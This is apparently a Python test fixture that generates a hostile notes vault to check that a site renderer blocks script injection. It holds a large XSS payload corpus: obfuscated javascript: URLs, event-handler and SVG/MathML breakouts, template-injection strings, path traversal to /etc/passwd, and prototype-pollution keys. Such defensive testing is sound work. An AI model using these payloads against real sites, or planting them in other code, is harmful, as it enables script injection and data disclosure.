"""A vault that wants to act in its reader's browser: the same traps in every place where a vault has words."""

import json
from collections.abc import Mapping

ELSEWHERE = "https://elsewhere.example"
"""A host that no page may ask for anything."""

CALL = "sprung(1)"
"""The trap: a function that the test puts into each page and that must never be called."""

WORDS = (
    f"<script>{CALL}</script>",
    f"</script><script>{CALL}</script><!--",
    f"</title></head><body onload={CALL}>",
    f"<img src=x onerror={CALL}>",
    f'"><svg/onload={CALL}>',
    f"' autofocus onfocus='{CALL}' x='",
    f"--><script>{CALL}</script>",
    f"]]><script>{CALL}</script>",
    f"</style><script>{CALL}</script>",
    f"</textarea></noscript><iframe srcdoc='<script>parent.{CALL}</script>'>",
    f"javascript:{CALL}",
    f"{{{{constructor.constructor('{CALL}')()}}}}${{{CALL}}}<%= {CALL} %>",
    f"\u2028{CALL}\u2029//",
    f"\\u003cscript\\u003e{CALL}",
    f"&lt;script&gt;{CALL}&lt;/script&gt;&#60;img src=x onerror={CALL}&#62;",
    "safe\u202etxt.exe\u2066 and\u200b\u200e\ufeff hidden",
    "nul\ufffe bell\x07 escape\x1b[31m delete\x7f",
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "../../../outside",
    "..\\..\\outside",
    "%2e%2e%2f%2e%2e%2foutside",
    "index.html",
    "a\nb\r\nc\td",
)
"""Texts that end what they stand in, name what a script inherits, or lead out of the folder."""

ADDRESSES = (
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f"\x01javascript:{CALL}",
    f"  javascript:{CALL}",
    f"java\tscript:{CALL}",
    f"java\nscript:{CALL}",
    f"java&#10;script:{CALL}",
    f"java&Tab;script&colon;{CALL}",
    f"&#x6A;&#97;vascript:{CALL}",
    f"java%0ascript:{CALL}",
    f"javascript&#0000058{CALL}",
    f"\u200bjavascript:{CALL}",
    f"\ufeffjavascript:{CALL}",
    f"ja\u00advascript:{CALL}",
    f"vbscript:{CALL}",
    f"livescript:{CALL}",
    f"view-source:javascript:{CALL}",
    f"jar:{ELSEWHERE}!/x",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuc3BydW5nKDEpPC9zY3JpcHQ+",
    f"data:text/html,<script>{CALL}</script>",
    f"data:image/svg+xml,<svg onload={CALL}>",
    f"blob:{ELSEWHERE}/x",
    f"filesystem:{ELSEWHERE}/x",
    f"feed:javascript:{CALL}",
    "file:///etc/passwd",
    "ftp://elsewhere.example/x",
    "//elsewhere.example/x",
    "\\\\elsewhere.example\\x",
    "/\\elsewhere.example/x",
    "/etc/passwd",
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    f'https://x" onmouseover="{CALL}',
    f"https://x' onmouseover='{CALL}",
    f"https://x><script>{CALL}</script>",
    f'mailto:a@b.c?subject="><img src=x onerror={CALL}>',
    f'#"><img src=x onerror={CALL}>',
    f'#q:x" onclick="{CALL}',
    "#__proto__",
)
"""Where links and pictures would lead, by every way to write a scheme that is not allowed."""

MARKUP = (
    f"<ScRiPt\n>{CALL}</ScRiPt\n>",
    f"<script src={ELSEWHERE}/x.js></script>",
    f"<script type=module>import('{ELSEWHERE}/x.js')</script>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><script href={ELSEWHERE}/x.js /></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s></svg>",
    f"<svg><a><animate attributeName=href values=javascript:{CALL} /><text x=20 y=20>a</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={CALL}>#x'></svg>",
    f"<svg><foreignObject><iframe src=javascript:{CALL}></foreignObject></svg>",
    f"<svg><style><img src=x onerror={CALL}></style></svg>",
    f'<svg></p><style><a id="</style><img src=x onerror={CALL}>">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={CALL}&gt;">',
    f"<math><annotation-xml encoding='text/html'><img src=x onerror={CALL}></annotation-xml></math>",
    f"<math href=javascript:{CALL}><mi xlink:href=javascript:{CALL}>x</mi></math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={CALL}>",
    f'<noscript><p title="</noscript><img src=x onerror={CALL}>"></noscript>',
    f"<template><script>{CALL}</script></template>",
    f'<textarea><img title="</textarea><img src=x onerror={CALL}>">',
    f'<title><img title="</title><img src=x onerror={CALL}>">',
    f'<xmp><img title="</xmp><img src=x onerror={CALL}>">',
    f'<noembed><img title="</noembed><img src=x onerror={CALL}>">',
    f"<plaintext><img src=x onerror={CALL}>",
    f"<listing>&lt;img src=x onerror={CALL}&gt;</listing>",
    f"<select><option><style></option></select><img src=x onerror={CALL}></style>",
    f'<abbr title="<h1><img src=x onerror={CALL}></h1>">a heading in a title</abbr>',
    f"<abbr title=\"<pre><code class='language-python'><img src=x onerror={CALL}>\">code in a title</abbr>",
    f"<abbr title=\"</abbr><a href='teleo-0'>teleo-0</a><img src=x onerror={CALL}>\">a link in a title</abbr>",
    f'<img alt="<img src=x onerror={CALL}>" src={ELSEWHERE}/pixel.png>',
    f"<img src={ELSEWHERE}/pixel.png srcset={ELSEWHERE}/pixel2.png>",
    f"<img src=x usemap=#m><map name=m><area href=javascript:{CALL}></map>",
    f"<picture><source srcset={ELSEWHERE}/pixel3.png><img src=x></picture>",
    f"<video poster={ELSEWHERE}/poster.png autoplay><source src=x onerror={CALL}></video>",
    f"<audio src={ELSEWHERE}/x.mp3 autoplay onloadstart={CALL}></audio>",
    f"<iframe src={ELSEWHERE}/></iframe><iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<object data={ELSEWHERE}/x type=text/html></object><embed src=javascript:{CALL}>",
    f"<applet code=x></applet><frameset onload={CALL}><frame src={ELSEWHERE}>",
    f"<link rel=stylesheet href={ELSEWHERE}/x.css><link rel=preconnect href={ELSEWHERE}>",
    f"<link rel=prefetch href={ELSEWHERE}/x><link rel=manifest href={ELSEWHERE}/x>",
    f"<style>@import '{ELSEWHERE}/x.css'; body {{ background: url({ELSEWHERE}/x.png) }}</style>",
    f'<p style="background:url({ELSEWHERE}/x.png);position:fixed;inset:0;z-index:99">over all</p>',
    f"<b style='behavior:url(x.htc);-moz-binding:url({ELSEWHERE}/x.xml)'>old</b>",
    f"<base href={ELSEWHERE}/><base target=_blank>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}/'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<meta name=referrer content=unsafe-url><meta charset=utf-7>+ADw-script+AD4-sprung(1)+ADw-/script+AD4-",
    f"<form action={ELSEWHERE}/><input name=secret><button formaction=javascript:{CALL}>go</button></form>",
    f"<input type=image src={ELSEWHERE}/x.png onfocus={CALL} autofocus>",
    f"<input type=checkbox checked onfocus={CALL} autofocus><input type=text value='type here'>",
    f"<details open ontoggle={CALL}><summary onclick={CALL}>more</summary>x</details>",
    f"<marquee onstart={CALL}>old</marquee><isindex type=image src=1 onerror={CALL}>",
    f"<div onpointerenter={CALL} onwheel={CALL} onanimationstart={CALL} contenteditable>x</div>",
    f"<dialog open><button popovertarget=x onclick={CALL}>x</button></dialog><div popover id=x>x</div>",
    f"<portal src={ELSEWHERE}></portal><fencedframe></fencedframe><slot name=x></slot>",
    f'<a href="{ELSEWHERE}/" ping="{ELSEWHERE}/ping" target=_top download onclick={CALL}>ping</a>',
    f"<a href='https://x' title='\" onmouseover=\"{CALL}'>title</a>",
    "<div id=main>main</div><div id=theme>theme</div><a id=teleo name=teleo>teleo</a><img name=body><form name=head>",
    "<div id=__proto__>p</div><div id=constructor>c</div><h2 id=numbers>Numbers</h2><p id=g-proven>g</p>",
    f"<!--><img src=x onerror={CALL}>--><!--- ><script>{CALL}</script> -->",
    f"<![CDATA[<script>{CALL}</script>]]><?xml-stylesheet href='{ELSEWHERE}/x.css'?><!DOCTYPE x [<!ENTITY e 'x'>]>",
    f"<img src=x onerror={CALL}//",
    f"<img/src='x'/onerror={CALL}>",
    f"<<script>{CALL}//<</script>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<a\x0bhref=x\x0conclick={CALL}>x</a>",
    f"<img \x00src=x onerror\x00={CALL}>",
    f"`<script>{CALL}</script>` and ``` </code><script>{CALL}</script> ```",
    f'```"><script>{CALL}</script>\n</code></pre><script>{CALL}</script>\n```',
    f"```html\n</code></pre><script>{CALL}</script>\n```",
    f"```math\n\\text{{</math><script>{CALL}</script>}}\n```",
    f'$$\\href{{javascript:{CALL}}}{{x}} \\class{{x" onclick="{CALL}}}{{y}}$$',
    f"$$\\style{{background:url({ELSEWHERE}/x.png)}}{{x}} \\unicode{{x3c}}script>{CALL}$$",
    f"$$<img src=x onerror={CALL}>$$ \ue0000\ue001 \ue0007\ue001",
    f'# "><img src=x onerror={CALL}>\n\n## {{#main onclick={CALL}}}\n\n## numbers\n\n## __proto__\n\n## main',
    f'| <script>{CALL}</script> | b |\n|---|---|\n| "><img src=x onerror={CALL}> | c |',
    f'[^"><script>]: <script>{CALL}</script>\n\nA note[^"><script>].',
    f"> [!NOTE]\n> <script>{CALL}</script>",
    f"- [x] <input onfocus={CALL} autofocus>\n- [ ] b",
    f'[[__proto__]] [[constructor|shown]] [[toString#valueOf]] ![[constructor]] [["><img src=x onerror={CALL}>]]',
    f'[[Target|"><img src=x onerror={CALL}>]] [[Target#"><img src=x onerror={CALL}>]] [[Target" onclick="{CALL}]]',
    "[[../../../../etc/passwd]] [[/etc/passwd]] ![[../secret.png]] [[c:\\windows]] [up](../../outside.md)",
    f'[ref][r] ![pic][r] <https://x/"><script>{CALL}</script>>\n\n[r]: javascript:{CALL} "\\"><script>{CALL}</script>"',
    f'<javascript:{CALL}> <data:text/html,x> <x@y.z"><script>{CALL}</script>>',
)
"""Bodies in Markdown and raw HTML."""


def hostile_vault() -> Mapping[str, str]:
    """Return the files of the vault by their paths."""
    files = {"teleo.toml": _config()}
    for number, words in enumerate(WORDS):
        files[f"words/{number} {_file_name(words)}.md"] = _everywhere(words, number)
    for number, address in enumerate(ADDRESSES):
        files[f"addresses/Address {number}.md"] = _leading(address)
    for number, markup in enumerate(MARKUP):
        files[f"markup/Markup {number}.md"] = (
            f"---\ntype: claim\nconfidence: likely\n---\n# Markup {number}\n\n{markup}\n"
        )
    for name in ("__proto__", "constructor", "prototype", "toString"):
        files[f"{name}.md"] = (
            f"---\ntype: claim\ndomain: {name}\nconfidence: likely\n---\n# {name}\n\n[[Target]] {name}.\n"
        )
    files["Target.md"] = "---\ntype: claim\nconfidence: proven\n---\n# Target\n\nWhat the others aim at.\n"
    files["index.html/static/page.js.md"] = "---\ntype: map\n---\n# static/page.js\n"
    return files


def _config() -> str:
    title = json.dumps(f"Vault</title><script>{CALL}</script>")
    domains = [
        f"{said} = {{title = {said}, colour = 'red'}}"
        for said in map(json.dumps, WORDS)
        if "\\x7f" not in said
    ]
    return "\n".join(
        (
            f"[vault]\ntitle = {title}\ndescription = {title}\n[vault.domains]",
            *domains,
            f"[site]\nrepository = {json.dumps(f'javascript:{CALL}//')}\n",
        )
    )


def _file_name(words: str) -> str:
    return words.replace("/", "⁄").replace("\x00", "")[:60]


def _everywhere(words: str, number: int) -> str:
    """Return a claim that says `words` in every field and in every kind of link."""
    said, next_one = json.dumps(words), json.dumps(WORDS[(number + 1) % len(WORDS)])
    prose, wikilink = json.dumps(f"so says {words}"), json.dumps(f"[[nowhere {words}]] says so")
    fields = (
        f"type: claim\ntitle: {said}\ndomain: {said}\ndescription: {said}\nconfidence: likely\nsource: {wikilink}\n"
        f"created: {said}\nlast_evaluated: 2026-03-{number + 1:02}\nquestion: {said}\nstatus: {said}\n"
        f"secondary_domains: [{said}]\naliases: [{json.dumps(words + ' too')}]\nresponses: [{prose}, {wikilink}]\n"
        f"depends_on: [Target, {prose}]\nsupports: [{next_one}, {wikilink}]\nchallenged_by: [{prose}, {wikilink}]\n"
        f"permalink: {said}\nattribution: {{sourcer: {said}}}\n"
        f"reweave_edges: [{json.dumps(f'Target|{words}|{words}')}]\n"
    )
    quantities = (
        f"quantities:\n  {said}:\n    calc: {said}\n    in: {{{said}: {said}}}\n    stated: {said}\n    var: {said}\n"
        f"  share:\n    calc: shift.share_at\n    in: {{share0: 30% to 40%, growth_ratio: 1.5 to 2.5, years: 4}}\n"
        f"    as_of: 2026\n    stated: 80% to 90%\n    var: {said}\n    scope: {said}\n    src: {said}\n"
        f"  other:\n    value: 3 to 5\n    unit: {said}\n    src: {said}\n"
    )
    body = (
        f"# {' '.join(words.split())}\n\nIn a sentence with [[Target]] and {words} beside it.\n\n"
        f"## {' '.join(words.split())}\n\n[shown {words}](Target.md) [number](#q:share) [[Target|{words}]]\n\n"
        f"```{words}\n{words}\n```\n\n---\nRelevant Notes:\n- [[Target]] — {words}\n\nTopics:\n- [[{words}]]\n"
    )
    return f"---\n{fields}{quantities}---\n{body}"


def _leading(address: str) -> str:
    quoted = address.replace(">", "%3E")
    return (
        "---\ntype: claim\nconfidence: likely\nsource: "
        + json.dumps(f"[work]({address}) [[{address}]]")
        + "\n---\n"
        f"# Address\n\n[plain]({address}) [angled](<{quoted}>) ![picture]({address}) ![angled](<{quoted}>)\n\n"
        f"<{address}>\n\n[reference][r] [[{address}]] [[{address}|shown]] ![[{address}]]\n\n"
        f'<a href="{address}">double</a> <a href=\'{address}\'>single</a> <img src="{address}"> '
        f'<a xlink:href="{address}">x</a> <form action="{address}"><button formaction="{address}">b</button></form>\n\n'
        f"[r]: <{quoted}>\n"
    )
